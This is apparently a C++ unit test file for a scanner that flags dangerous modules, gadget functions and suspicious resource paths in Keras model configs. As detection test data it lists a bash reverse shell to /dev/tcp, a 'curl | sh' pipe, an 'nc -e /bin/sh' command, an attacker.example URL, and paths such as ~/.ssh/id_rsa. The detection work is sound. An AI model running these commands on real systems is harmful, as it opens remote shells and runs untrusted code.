// Unit tests of the name resolution and text helpers behind the Keras config detector.
#include <gtest/gtest.h>

#include <string>

#include "modelshield/error.hpp"
#include "scan/keras/config_text.hpp"
#include "scan/keras/lambda.hpp"
#include "scan/keras/symbols.hpp"

namespace {

using namespace ms::keras;

TEST(KerasSymbols, ModuleFamilies) {
  EXPECT_EQ(classify_module("").family, ModuleFamily::none);
  EXPECT_EQ(classify_module("keras").family, ModuleFamily::keras_core);
  EXPECT_EQ(classify_module("keras.src.layers.core.lambda_layer").family, ModuleFamily::keras_core);
  EXPECT_EQ(classify_module("tf_keras.src.layers").family, ModuleFamily::keras_core);
  EXPECT_EQ(classify_module("tensorflow.keras.layers").family, ModuleFamily::keras_core);
  EXPECT_EQ(classify_module("tensorflow.python.keras.layers").family, ModuleFamily::keras_core);
  EXPECT_EQ(classify_module("tensorflow.python.ops.math_ops").family, ModuleFamily::tensorflow);
  EXPECT_EQ(classify_module("keras_hub.src.models.gemma").family, ModuleFamily::keras_addon);
  EXPECT_EQ(classify_module("builtins").family, ModuleFamily::builtins);
  EXPECT_EQ(classify_module("__main__").family, ModuleFamily::main);
  EXPECT_EQ(classify_module("my_package.layers").family, ModuleFamily::other);
  EXPECT_EQ(classify_module("kerasx").family, ModuleFamily::other);
  for (const char* module : {"os",         "os.path",         "posix",
                             "nt",         "subprocess",      "sys",
                             "importlib",  "runpy",           "pty",
                             "socket",     "shutil",          "pathlib",
                             "io",         "urllib.request",  "http.client",
                             "ftplib",     "smtplib",         "requests",
                             "pickle",     "marshal",         "ctypes",
                             "code",       "codeop",          "pdb",
                             "webbrowser", "multiprocessing", "__builtin__.eval"}) {
    ModuleInfo info = classify_module(module);
    EXPECT_EQ(info.family, ModuleFamily::dangerous) << module;
    EXPECT_FALSE(info.capability.empty()) << module;
  }
  for (const char* module : {"../os", "os system", "os/path", "1abc", "a..b", ".os", "os."})
    EXPECT_EQ(classify_module(module).family, ModuleFamily::invalid) << module;
}

TEST(KerasSymbols, KerasRelativePaths) {
  EXPECT_EQ(keras_relative_path("keras.utils.get_file"), "utils.get_file");
  EXPECT_EQ(keras_relative_path("keras.src.utils.file_utils.get_file"), "utils.file_utils.get_file");
  EXPECT_EQ(keras_relative_path("tensorflow.keras.models.load_model"), "models.load_model");
  EXPECT_EQ(keras_relative_path("keras.api._tf_keras.keras.layers.Lambda"), "layers.Lambda");
  EXPECT_EQ(keras_relative_path("tf.keras.utils.get_file"), "utils.get_file");
  EXPECT_FALSE(keras_relative_path("keras_hub.src.models").has_value());
  EXPECT_FALSE(keras_relative_path("os.system").has_value());
}

TEST(KerasSymbols, Gadgets) {
  for (const char* symbol : {"keras.utils.get_file",
                             "keras.src.utils.file_utils.get_file",
                             "tf_keras.utils.get_file",
                             "keras.models.load_model",
                             "keras.saving.load_model",
                             "keras.config.enable_unsafe_deserialization",
                             "keras.src.saving.serialization_lib.enable_unsafe_deserialization",
                             "keras.src.backend.common.global_state.set_global_attribute",
                             "keras.src.backend.config.set_floatx",
                             "keras.datasets.mnist.load_data",
                             "keras.utils.load_img",
                             "keras.models.model_from_json",
                             "keras.models.model_from_yaml",
                             "keras.src.utils.io_utils.ask_to_proceed_with_overwrite",
                             "keras.src.utils.python_utils.func_load",
                             "keras.utils.plot_model",
                             "keras.src.utils.module_utils.LazyModule",
                             "keras_hub.src.utils.preset_utils.load_serialized_object",
                             "tensorflow.io.write_file",
                             "tensorflow.io.gfile.GFile",
                             "tf.compat.v1.py_func",
                             "tensorflow.raw_ops.ReadFile",
                             "tensorflow.python.util.lazy_loader.LazyLoader",
                             "tf.keras.utils.get_file"}) {
    EXPECT_TRUE(match_gadget(symbol).has_value()) << symbol;
  }
  for (const char* symbol :
       {"keras.layers.Dense", "keras.src.models.functional.Functional", "keras.activations.relu",
        "keras.ops.mean", "keras.src.layers.core.lambda_layer.Lambda", "tf.math.add", "tensorflow.nn.relu",
        "keras_hub.src.models.gemma.gemma_backbone.GemmaBackbone",
        "keras.src.quantizers.quantization_config.Int8QuantizationConfig", "os.system"}) {
    EXPECT_FALSE(match_gadget(symbol).has_value()) << symbol;
  }
  auto get_file = match_gadget("keras.utils.get_file");
  ASSERT_TRUE(get_file.has_value());
  EXPECT_EQ(get_file->references.front(), "CVE-2025-8747");
  EXPECT_EQ(match_gadget("keras.config.enable_unsafe_deserialization")->references.front(), "CVE-2025-9906");
}

TEST(KerasSymbols, BuiltInNames) {
  for (const char* name : {"Dense",
                           "Lambda",
                           "Sequential",
                           "Functional",
                           "Model",
                           "InputLayer",
                           "DTypePolicy",
                           "GlorotUniform",
                           "Adam",
                           "BinaryCrossentropy",
                           "MeanMetricWrapper",
                           "TimeDistributed",
                           "Bidirectional",
                           "LSTM",
                           "Convolution2D",
                           "Merge",
                           "CuDNNLSTM",
                           "TFOpLambda",
                           "TorchModuleWrapper",
                           "TFSMLayer",
                           "StringLookup",
                           "Policy",
                           "L1L2", "L1", "L2", "AUC", "SGD", "CTC"})
    EXPECT_TRUE(is_known_keras_class(name)) << name;
  for (const char* name : {"NestedDenseModel", "MyLayer", "system", "Popen"})
    EXPECT_FALSE(is_known_keras_class(name)) << name;
  for (const char* name : {"relu", "softmax", "mse", "mean_squared_error", "categorical_crossentropy", "acc",
                           "glorot_uniform", "l2", "max_norm", "swish", "gelu"})
    EXPECT_TRUE(is_known_keras_core_function(name)) << name;
  EXPECT_FALSE(is_known_keras_core_function("eval"));
  EXPECT_FALSE(is_known_keras_core_function("exec"));
  EXPECT_TRUE(is_known_keras_function("mean"));
  for (const char* name : {"accuracy", "Accuracy", "adam", "RMSprop", "rmsprop", "AUC", "auc", "Custom>Adam",
                           "sparse_categorical_crossentropy", "hard_sigmoid"})
    EXPECT_TRUE(is_known_string_reference(name)) << name;
  for (const char* name : {"my_loss", "f1_score", "Custom>MyLoss", "os.system"})
    EXPECT_FALSE(is_known_string_reference(name)) << name;
}

TEST(KerasSymbols, PythonBuiltins) {
  EXPECT_TRUE(is_python_builtin("exec"));
  EXPECT_TRUE(is_python_builtin("max"));
  EXPECT_FALSE(is_python_builtin("system"));
  EXPECT_FALSE(dangerous_builtin_capability("exec").empty());
  EXPECT_FALSE(dangerous_builtin_capability("__import__").empty());
  EXPECT_FALSE(dangerous_builtin_capability("open").empty());
  EXPECT_TRUE(dangerous_builtin_capability("max").empty());
}

TEST(KerasSymbols, CodeIndicators) {
  for (const char* name : {"system", "popen", "Popen", "exec", "eval", "__import__", "getattr", "socket",
                           "pty", "subprocess", "urlopen", "open", "builtins", "__subclasses__"})
    EXPECT_FALSE(code_name_capability(name).empty()) << name;
  for (const char* name : {"tf", "K", "mean", "reshape", "expand_dims", "ops", "image", "resize", "x", "io"})
    EXPECT_TRUE(code_name_capability(name).empty()) << name;
  for (const char* text : {"/bin/sh", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "curl http://x | sh",
                           "wget x.sh", "nc -e /bin/sh 1.2.3.4 4444", "cp /app/flag.txt /tmp",
                           "https://attacker.example", "import os; os.system('id')"})
    EXPECT_FALSE(string_capability(text).empty()) << text;
  for (const char* text : {"channels_last", "float32", "same", "ij,jk->ik", "axis", "relu", "a/b"})
    EXPECT_TRUE(string_capability(text).empty()) << text;
}

TEST(KerasConfigText, Resources) {
  EXPECT_EQ(classify_resource("http://a.example/x"), ResourceKind::remote_url);
  EXPECT_EQ(classify_resource("HTTPS://a.example/x"), ResourceKind::remote_url);
  EXPECT_EQ(classify_resource("gs://bucket/vocab"), ResourceKind::remote_url);
  EXPECT_EQ(classify_resource("hdfs://namenode/x"), ResourceKind::remote_url);
  EXPECT_EQ(classify_resource("file:///etc/passwd"), ResourceKind::file_url);
  EXPECT_EQ(classify_resource("file:/etc/passwd"), ResourceKind::file_url);
  EXPECT_EQ(classify_resource("/etc/passwd"), ResourceKind::absolute_path);
  EXPECT_EQ(classify_resource("//etc/passwd"), ResourceKind::absolute_path);
  EXPECT_EQ(classify_resource("~/.ssh/id_rsa"), ResourceKind::home_path);
  EXPECT_EQ(classify_resource("~root/.bashrc"), ResourceKind::home_path);
  EXPECT_EQ(classify_resource("../../secrets"), ResourceKind::parent_path);
  EXPECT_EQ(classify_resource("assets/../../x"), ResourceKind::parent_path);
  EXPECT_EQ(classify_resource("C:\\Windows\\system32"), ResourceKind::windows_path);
  EXPECT_EQ(classify_resource("c:/x"), ResourceKind::windows_path);
  EXPECT_EQ(classify_resource("\\\\server\\share"), ResourceKind::windows_path);
  for (const char* text : {"dense/kernel:0", "model/dense_1/BiasAdd", "relu", "/", "1/2", "channels_last",
                           "a:b", "~", "vocab.txt", "std::string", "/\n", "mailto:x"})
    EXPECT_EQ(classify_resource(text), ResourceKind::none) << text;
  EXPECT_EQ(with_article(ResourceKind::absolute_path), "an absolute path");
  EXPECT_EQ(with_article(ResourceKind::remote_url), "a remote URL");
}

TEST(KerasConfigText, PrintableEscapesAndBounds) {
  EXPECT_EQ(printable("abc"), "abc");
  EXPECT_EQ(printable(std::string("a\nb\x01", 4)), "a\\nb\\x01");
  EXPECT_EQ(printable("caf\xC3\xA9"), "caf\xC3\xA9");
  EXPECT_EQ(printable("\xC3"), "\\xc3");
  EXPECT_EQ(printable("\xED\xA0\x80"), "\\xed\\xa0\\x80");  // an encoded surrogate is not UTF-8
  EXPECT_EQ(printable(std::string(500, 'x'), 10), std::string(10, 'x') + "...");
}

TEST(KerasLambdaText, CodeEncodings) {
  std::string encoding;
  // base64 of 0xE3 0x00: what Keras's func_dump writes (with its line breaks).
  EXPECT_EQ(lambda_code_bytes("4wA=\n", encoding), (std::vector<std::uint8_t>{0xE3, 0x00}));
  EXPECT_EQ(encoding, "base64");
  // Not base64 (a lone quantum character): Keras falls back to raw_unicode_escape.
  EXPECT_EQ(lambda_code_bytes("abcde", encoding), (std::vector<std::uint8_t>{'a', 'b', 'c', 'd', 'e'}));
  EXPECT_EQ(encoding, "raw_unicode_escape");
  // Non-ASCII: U+00E3 is one byte, U+0100 becomes the text \u0100.
  EXPECT_EQ(lambda_code_bytes("\xC3\xA3\xC4\x80", encoding),
            (std::vector<std::uint8_t>{0xE3, '\\', 'u', '0', '1', '0', '0'}));
  EXPECT_EQ(encoding, "raw_unicode_escape");
  EXPECT_THROW(lambda_code_bytes("\xFF\xFE", encoding), ms::FormatError);

  EXPECT_TRUE(looks_like_marshalled_code("4wEAAAAAAAAAAQAAAAIAAABD"));
  EXPECT_TRUE(looks_like_marshalled_code("YwEAAAAAAAAAAQAAAAIAAABD"));
  EXPECT_TRUE(looks_like_marshalled_code(
      std::string("\xC3\xA3\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00", 16)));
  EXPECT_FALSE(looks_like_marshalled_code("channels_last_and_more"));
  EXPECT_FALSE(looks_like_marshalled_code("4wE"));
  EXPECT_FALSE(looks_like_marshalled_code("Yes, this is a sentence"));
}

}  // namespace
